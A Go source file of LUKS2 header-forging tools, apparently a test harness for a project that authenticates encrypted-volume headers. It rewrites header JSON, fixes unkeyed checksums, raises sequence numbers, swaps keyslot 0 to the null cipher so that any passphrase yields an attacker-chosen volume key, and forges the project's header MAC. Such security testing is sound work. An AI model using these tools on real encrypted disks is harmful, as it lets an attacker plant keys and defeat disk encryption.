package main

import (
	"bytes"
	"crypto/hkdf"
	"crypto/hmac"
	"crypto/pbkdf2"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"os"
	"strconv"
	"strings"
)

// The forger's tools. They work on raw bytes as the LUKS2 On-Disk Format
// Specification describes them and share no code with cryptmapper/luks2.

const (
	copySize   = 16 << 10     // of one metadata copy, as cryptsetup's default is
	binarySize = 4 << 10      // of the binary header before the JSON
	areaAt     = 2 * copySize // of the first keyslot's key material
	areaSize   = 258048       // for a volume key of 64 bytes
	dataOffset = 16 << 20
)

// header is the two metadata copies of a disk, the primary first.
type header [2][]byte

func readHeader(file *os.File) (header, error) {
	var h header
	for i := range h {
		h[i] = make([]byte, copySize)
		if _, err := file.ReadAt(h[i], int64(i)*copySize); err != nil {
			return h, err
		}
	}
	return h, nil
}

// write puts both copies back, each with its checksum made right.
func (h header) write(file *os.File) error {
	for i, c := range h {
		checksum(c)
		if _, err := file.WriteAt(c, int64(i)*copySize); err != nil {
			return err
		}
	}
	return nil
}

// checksum makes the unkeyed checksum right, as anybody can.
func checksum(c []byte) {
	field := c[448:512]
	clear(field)
	sum := sha256.Sum256(c)
	copy(field, sum[:])
}

// raiseSequence makes LUKS2 take this copy for the newer one.
func raiseSequence(c []byte) {
	binary.BigEndian.PutUint64(c[16:], binary.BigEndian.Uint64(c[16:])+1)
}

func text(c []byte) []byte {
	t, _, _ := bytes.Cut(c[binarySize:], []byte{0})
	return t
}

func setText(c, t []byte) error {
	if len(t) >= copySize-binarySize {
		return fmt.Errorf("JSON of %d bytes does not fit", len(t))
	}
	clear(c[binarySize:])
	copy(c[binarySize:], t)
	return nil
}

// An edit changes the JSON of a copy and leaves every other byte of it as it is.
type edit func(t []byte) ([]byte, error)

// edited applies edits to one copy.
func edited(c []byte, edits ...edit) error {
	t := bytes.Clone(text(c))
	for _, e := range edits {
		var err error
		if t, err = e(t); err != nil {
			return err
		}
	}
	return setText(c, t)
}

// set puts raw JSON in the place of the value at a path such as "segments/0/encryption".
func set(path, value string) edit {
	return func(t []byte) ([]byte, error) {
		_, start, end, err := locate(t, path)
		if err != nil {
			return nil, err
		}
		return splice(t, start, end, value), nil
	}
}

// add puts a member in front of the others of the object at a path.
func add(path, member string) edit {
	return func(t []byte) ([]byte, error) {
		_, start, end, err := locate(t, path)
		if err != nil {
			return nil, err
		}
		if len(bytes.TrimSpace(t[start+1:end-1])) > 0 {
			return splice(t, start+1, start+1, member+","), nil
		}
		return splice(t, start+1, start+1, member), nil
	}
}

// drop removes the member at a path.
func drop(path string) edit {
	return func(t []byte) ([]byte, error) {
		start, _, end, err := locate(t, path)
		if err != nil {
			return nil, err
		}
		switch {
		case t[end] == ',':
			end++
		case t[start-1] == ',':
			start--
		}
		return splice(t, start, end, ""), nil
	}
}

// value returns the raw JSON at a path.
func value(t []byte, path string) (string, error) {
	_, start, end, err := locate(t, path)
	return string(t[start:end]), err
}

func splice(t []byte, start, end int, with string) []byte {
	return append(append(bytes.Clone(t[:start]), with...), t[end:]...)
}

// locate returns where the value at a path of object keys stands, and where
// its key begins.
func locate(t []byte, path string) (member, start, end int, err error) {
	d := json.NewDecoder(bytes.NewReader(t))
	if path == "" {
		return 0, bytes.IndexByte(t, '{'), bytes.LastIndexByte(t, '}') + 1, nil
	}
	keys := strings.Split(path, "/")
	if _, err := d.Token(); err != nil {
		return 0, 0, 0, err
	}
	for d.More() {
		before := int(d.InputOffset())
		key, err := d.Token()
		if err != nil {
			return 0, 0, 0, err
		}
		if key == keys[0] && len(keys) > 1 {
			if _, err := d.Token(); err != nil {
				return 0, 0, 0, err
			}
			keys = keys[1:]
			continue
		}
		var raw json.RawMessage
		if err := d.Decode(&raw); err != nil {
			return 0, 0, 0, err
		}
		if key == keys[0] {
			end := int(d.InputOffset())
			return before + bytes.IndexByte(t[before:], '"'), end - len(raw), end, nil
		}
	}
	return 0, 0, 0, fmt.Errorf("the header has no %s", path)
}

// ownKeyslot turns a header into one whose keyslot 0 opens with every
// passphrase and gives a volume key that the attacker chose: the keyslot's area
// is "encrypted" by the null cipher, so that its material can be made without
// any secret, and the digest is one of that key. It returns the area's content
// and place.
func ownKeyslot(t []byte) (edits []edit, area []byte, offset int64, err error) {
	size, err := value(t, "keyslots/0/key_size")
	if err != nil {
		return nil, nil, 0, err
	}
	n, err := strconv.Atoi(size)
	if err != nil {
		return nil, nil, 0, err
	}
	at, err := value(t, "keyslots/0/area/offset")
	if err != nil {
		return nil, nil, 0, err
	}
	if offset, err = strconv.ParseInt(strings.Trim(at, `"`), 10, 64); err != nil {
		return nil, nil, 0, err
	}
	key, salt := make([]byte, n), make([]byte, 32)
	_, _ = rand.Read(key)
	_, _ = rand.Read(salt)
	digest, err := pbkdf2.Key(sha256.New, string(key), salt, 1000, sha256.Size)
	if err != nil {
		return nil, nil, 0, err
	}
	quoted := func(b []byte) string { return `"` + base64.StdEncoding.EncodeToString(b) + `"` }
	return []edit{
		set("keyslots/0/area/encryption", `"cipher_null-ecb"`),
		set("digests/0/iterations", "1000"),
		set("digests/0/salt", quoted(salt)),
		set("digests/0/digest", quoted(digest)),
	}, split(key, 4000), offset, nil
}

// split is LUKS's anti-forensic splitter with SHA-256, whose filler may be
// anything: zeros here.
func split(key []byte, stripes int) []byte {
	out := make([]byte, len(key)*stripes)
	block := make([]byte, len(key))
	for range stripes - 1 {
		diffuse(block)
	}
	last := out[len(key)*(stripes-1):]
	for i := range key {
		last[i] = key[i] ^ block[i]
	}
	return out
}

func diffuse(block []byte) {
	for i := 0; i*sha256.Size < len(block); i++ {
		part := block[i*sha256.Size : min((i+1)*sha256.Size, len(block))]
		sum := sha256.Sum256(append(binary.BigEndian.AppendUint32(nil, uint32(i)), part...))
		copy(part, sum[:])
	}
}

// authenticate gives a copy the MAC that cryptcsi would have put there under
// the key: what somebody who has the DEK could forge, or a MAC with a hole.
// The areas of the listed keyslots are read from the file.
func authenticate(c []byte, file *os.File, key []byte) error {
	quoted, err := value(text(c), "tokens/0/mac")
	if err != nil {
		return err
	}
	old := []byte(strings.Trim(quoted, `"`))
	blank := []byte(base64.StdEncoding.EncodeToString(make([]byte, sha256.Size)))
	head := bytes.Clone(c[:binarySize])
	for _, field := range [][2]int{{0, 6}, {16, 24}, {256, 264}, {448, 512}} { // magic, sequence, place, checksum
		clear(head[field[0]:field[1]])
	}
	macKey, err := hkdf.Key(sha256.New, key, nil, "cryptcsi luks2 header v1", sha256.Size)
	if err != nil {
		return err
	}
	h := hmac.New(sha256.New, macKey)
	part := func(b []byte) {
		h.Write(binary.BigEndian.AppendUint64(nil, uint64(len(b))))
		h.Write(b)
	}
	part(head)
	part(bytes.Replace(c[binarySize:], old, blank, 1))
	for _, slot := range []string{"0", "1"} {
		at, err1 := value(text(c), "keyslots/"+slot+"/area/offset")
		size, err2 := value(text(c), "keyslots/"+slot+"/area/size")
		if err1 != nil || err2 != nil {
			continue
		}
		offset, err1 := strconv.ParseInt(strings.Trim(at, `"`), 10, 64)
		length, err2 := strconv.ParseInt(strings.Trim(size, `"`), 10, 64)
		if err1 != nil || err2 != nil {
			return fmt.Errorf("keyslot %s has no area", slot)
		}
		area := make([]byte, length)
		if _, err := file.ReadAt(area, offset); err != nil {
			return err
		}
		part(binary.BigEndian.AppendUint64(nil, uint64(offset)))
		part(area)
	}
	mac := base64.StdEncoding.EncodeToString(h.Sum(nil))
	copy(c[binarySize:], bytes.Replace(c[binarySize:], old, []byte(mac), 1))
	return nil
}
